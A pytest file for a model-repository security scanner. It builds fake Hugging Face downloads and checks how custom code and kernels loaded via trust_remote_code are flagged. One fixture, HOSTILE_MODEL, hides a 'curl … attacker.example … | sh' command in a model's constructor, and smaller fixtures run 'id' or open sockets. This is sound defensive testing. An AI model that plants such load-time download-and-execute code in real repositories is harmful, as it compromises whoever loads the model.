"""Hugging Face repositories as downloaded: the code trust_remote_code imports, code fetched
from elsewhere, hub kernels, and what of the folder is inert data."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
import torch
from safetensors.torch import save_file

from modelshield.core.findings import Severity
from modelshield.core.policy import Policy
from tests.scanner.repos.conftest import of, result, roles, rules, scan_dir, write
from tests.scanner.repos.test_pysource import ORDINARY_MODEL

CONFIGURATION = """from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size: int = 8, **kwargs) -> None:
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
"""

HOSTILE_MODEL = """import os
import torch
from torch import nn

from .configuration_tiny import TinyConfig


class TinyModel(nn.Module):
    def __init__(self, config: TinyConfig) -> None:
        super().__init__()
        os.system("curl -s http://attacker.example/x | sh")
        self.layer = nn.Linear(config.hidden_size, config.hidden_size)
"""


def config(**extra: Any) -> dict[str, Any]:
    """``config.json`` as transformers writes it for a custom-code model."""
    return {
        "_name_or_path": "someone/tiny",
        "architectures": ["TinyModel"],
        "auto_map": {
            "AutoConfig": "configuration_tiny.TinyConfig",
            "AutoModel": "modeling_tiny.TinyModel",
        },
        "hidden_size": 8,
        "model_type": "tiny",
        "torch_dtype": "float32",
        "transformers_version": "4.46.0",
        **extra,
    }


def download(folder: Path, modeling: str = ORDINARY_MODEL, **files: Any) -> Path:
    """A folder laid out like ``snapshot_download`` of a custom-code repository."""
    folder.mkdir(parents=True, exist_ok=True)
    save_file({"layer.weight": torch.zeros(8, 8), "layer.bias": torch.zeros(8)},
              str(folder / "model.safetensors"), metadata={"format": "pt"})  # fmt: skip
    tokenizer = {
        "added_tokens_decoder": {"0": {"content": "<pad>", "special": True}},
        "bos_token": "<s>",
        "chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "model_max_length": 2048,
        "tokenizer_class": "PreTrainedTokenizerFast",
    }
    write(
        folder,
        {
            "config.json": config(),
            "generation_config.json": {"_from_model_config": True, "transformers_version": "4"},
            "tokenizer_config.json": tokenizer,
            "special_tokens_map.json": {"bos_token": "<s>"},
            "tokenizer.json": {"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0}}},
            "README.md": "---\nlicense: mit\n---\n# Tiny\n\nLoad with `trust_remote_code=True`.\n",
            ".gitattributes": "*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
            "configuration_tiny.py": CONFIGURATION,
            "modeling_tiny.py": modeling,
            **files,
        },
    )
    return folder


def test_benign_custom_code_is_visible_but_low(tmp_path: Path) -> None:
    report = scan_dir(download(tmp_path / "tiny"))
    modeling = result(report, "modeling_tiny.py")
    [finding] = of(modeling, "REPO-REMOTE-CODE")
    assert finding.severity == Severity.LOW
    assert finding.evidence["config"] == "config.json"
    assert finding.evidence["key"] == "auto_map.AutoModel"
    assert of(result(report, "configuration_tiny.py"), "REPO-REMOTE-CODE")
    assert report.max_severity == Severity.LOW
    assert Policy().exit_code(Policy().apply(report)) == 0
    [repository] = report.repositories
    assert repository.layouts == ("huggingface",)
    assert roles(repository) == {
        ".gitattributes": "inert",
        "README.md": "inert",
        "config.json": "inert",
        "configuration_tiny.py": "executable",
        "generation_config.json": "inert",
        "model.safetensors": "inert",
        "modeling_tiny.py": "executable",
        "special_tokens_map.json": "inert",
        "tokenizer.json": "inert",
        "tokenizer_config.json": "inert",
    }


def test_custom_code_that_runs_a_shell_is_high(tmp_path: Path) -> None:
    report = scan_dir(download(tmp_path / "tiny", HOSTILE_MODEL))
    modeling = result(report, "modeling_tiny.py")
    [finding] = of(modeling, "REPO-REMOTE-CODE")
    assert finding.severity == Severity.HIGH
    assert finding.evidence["calls"] == "os.system (line 11)"
    # The repository finding replaces the script finding on the same file.
    assert of(modeling, "PYTHON-DANGEROUS-CALL") == []
    assert Policy().exit_code(Policy().apply(report)) == 1


def test_the_same_code_outside_a_repository_is_only_a_script(tmp_path: Path) -> None:
    folder = download(tmp_path / "tiny", HOSTILE_MODEL)
    report = scan_dir(folder)
    alone = result(scan_dir(write(tmp_path / "loose", {"modeling_tiny.py": HOSTILE_MODEL})),
                   "modeling_tiny.py")  # fmt: skip
    assert [f.rule_id for f in alone.findings] == ["PYTHON-DANGEROUS-CALL"]
    assert result(report, "modeling_tiny.py").max_severity == Severity.HIGH


def test_relative_imports_are_followed_as_transformers_copies_them(tmp_path: Path) -> None:
    modeling = "from .layers.attention import Attention\nfrom . import helpers\n"
    folder = download(
        tmp_path / "tiny",
        modeling,
        **{
            "layers/__init__.py": "",
            "layers/attention.py": "from ..helpers import go\nclass Attention: pass\n",
            "helpers.py": "import subprocess\ndef go():\n    subprocess.check_call(['id'])\n",
            "unused.py": "import os\nos.system('id')\n",
        },
    )
    report = scan_dir(folder)
    helpers = of(result(report, "helpers.py"), "REPO-REMOTE-CODE")
    assert [f.severity for f in helpers] == [Severity.HIGH]
    assert "imported by" in helpers[0].evidence["loader"]
    assert of(result(report, "attention.py"), "REPO-REMOTE-CODE")
    # Not imported by anything a loader runs: a script, not remote code.
    unused = result(report, "unused.py")
    assert [f.rule_id for f in unused.findings] == ["PYTHON-DANGEROUS-CALL"]
    assert roles(report.repositories[0])["unused.py"] == "code"


def test_tokenizer_auto_map_and_custom_pipelines(tmp_path: Path) -> None:
    tokenizer = {"auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}}
    folder = download(
        tmp_path / "tiny",
        **{
            "tokenizer_config.json": tokenizer,
            "tokenization_tiny.py": "import socket\nsocket.create_connection(('x', 1))\n",
            "config.json": config(
                custom_pipelines={"tiny-task": {"impl": "pipeline_tiny.TinyPipeline"}}
            ),
            "pipeline_tiny.py": "class TinyPipeline: pass\n",
        },
    )
    report = scan_dir(folder)
    [tok] = of(result(report, "tokenization_tiny.py"), "REPO-REMOTE-CODE")
    assert (tok.severity, tok.evidence["key"]) == (Severity.HIGH, "auto_map.AutoTokenizer")
    [pipe] = of(result(report, "pipeline_tiny.py"), "REPO-REMOTE-CODE")
    assert pipe.evidence["key"] == "custom_pipelines.tiny-task.impl"


def test_code_from_another_repository_or_missing_here(tmp_path: Path) -> None:
    auto_map = {
        "AutoConfig": "configuration_tiny.TinyConfig",
        "AutoModel": "someone-else/their-repo--modeling_other.OtherModel",
        "AutoModelForCausalLM": "modeling_absent.AbsentModel",
    }
    folder = download(tmp_path / "tiny", **{"config.json": config(auto_map=auto_map)})
    report = scan_dir(folder)
    found = of(result(report, "config.json"), "REPO-EXTERNAL-CODE")
    assert {f.evidence["key"]: f.evidence["code"] for f in found} == {
        "auto_map.AutoModel": "someone-else/their-repo--modeling_other.OtherModel",
        "auto_map.AutoModelForCausalLM": "modeling_absent.AbsentModel",
    }
    assert all(f.severity == Severity.MEDIUM for f in found)
    assert "someone-else/their-repo" in found[0].message


@pytest.mark.parametrize(
    ("extra", "key"),
    [
        ({"_attn_implementation": "kernels-community/flash-attn"}, "_attn_implementation"),
        ({"text_config": {"attn_implementation": "evil/kernels@main:attn"}},
         "text_config.attn_implementation"),
        ({"_attn_implementation_internal": "someone/k"}, "_attn_implementation_internal"),
    ],
)  # fmt: skip
def test_hub_kernels_are_reported(tmp_path: Path, extra: dict[str, Any], key: str) -> None:
    report = scan_dir(download(tmp_path / "tiny", **{"config.json": config(**extra)}))
    [finding] = of(result(report, "config.json"), "REPO-HUB-KERNEL")
    assert finding.evidence["key"] == key


def test_installed_attention_implementations_are_not_kernels(tmp_path: Path) -> None:
    extra = {"_attn_implementation": "sdpa", "vision_config": {"attn_implementation": "eager"}}
    report = scan_dir(download(tmp_path / "tiny", **{"config.json": config(**extra)}))
    assert "REPO-HUB-KERNEL" not in rules(report)


def test_diffusers_and_sentence_transformers_custom_modules(tmp_path: Path) -> None:
    folder = write(
        tmp_path / "pipe",
        {
            "model_index.json": {
                "_class_name": "StableDiffusionPipeline",
                "_diffusers_version": "0.30.0",
                "scheduler": ["diffusers", "PNDMScheduler"],
                "text_encoder": ["transformers", "CLIPTextModel"],
                "unet": ["my_unet", "MyUNet"],
                "safety_checker": [None, None],
            },
            "unet/my_unet.py": "import os\nos.system('id')\n",
            "unet/config.json": {"_class_name": "MyUNet"},
            "modules.json": [
                {"idx": 0, "path": "", "type": "sentence_transformers.models.Transformer"},
                {"idx": 1, "name": "1", "path": "1_Custom", "type": "custom_st.Pooler"},
                {"idx": 2, "name": "2", "path": "2_Gone", "type": "gone_module.Thing"},
            ],
            "custom_st.py": "class Pooler: pass\n",
        },
    )  # fmt: skip
    report = scan_dir(folder)
    [unet] = of(result(report, "my_unet.py"), "REPO-REMOTE-CODE")
    assert unet.severity == Severity.HIGH
    assert unet.evidence["config"] == "model_index.json"
    assert of(result(report, "custom_st.py"), "REPO-REMOTE-CODE")
    [gone] = of(result(report, "modules.json"), "REPO-EXTERNAL-CODE")
    assert gone.evidence["code"] == "gone_module.Thing"


def test_referenced_code_that_cannot_be_parsed_is_not_analysed(tmp_path: Path) -> None:
    report = scan_dir(download(tmp_path / "tiny", "print 'written for Python 2'\n"))
    modeling = result(report, "modeling_tiny.py")
    assert "REPO-NOT-ANALYSED" in {f.rule_id for f in modeling.findings}
    assert modeling.status == "incomplete"
    assert Policy().exit_code(Policy().apply(report)) == 1  # the gap's finding is medium


def test_hostile_configurations_are_bounded(tmp_path: Path) -> None:
    many = {f"Auto{i}": f"modeling_{i}.M" for i in range(100_000)}
    folder = download(tmp_path / "tiny", **{"config.json": config(auto_map=many)})
    report = scan_dir(folder)
    config_result = result(report, "config.json")
    assert of(config_result, "REPO-NOT-ANALYSED")
    # Capped per rule and file as the scan caps findings: the rest counted in one more.
    assert len(of(config_result, "REPO-EXTERNAL-CODE")) == 101
    deep = tmp_path / "deep"
    download(deep)
    (deep / "config.json").write_text('{"auto_map": ' + "[" * 100_000 + "]" * 100_000 + "}")
    assert scan_dir(deep).repositories  # json refuses it, as transformers' reader does
    big = download(tmp_path / "big")
    (big / "config.json").write_text(json.dumps(config(padding="x" * 2_000_000)))
    gap = result(scan_dir(big, max_manifest_bytes=1 << 20), "config.json")
    assert [f.evidence.get("limit") for f in of(gap, "REPO-NOT-ANALYSED")] == ["max_manifest_bytes"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_pipe_named_like_a_config_does_not_hang_the_pass(tmp_path: Path) -> None:
    folder = download(tmp_path / "tiny")
    (folder / "config.json").unlink()
    os.mkfifo(folder / "config.json")
    report = scan_dir(folder)
    assert of(result(report, "config.json"), "REPO-NOT-ANALYSED")
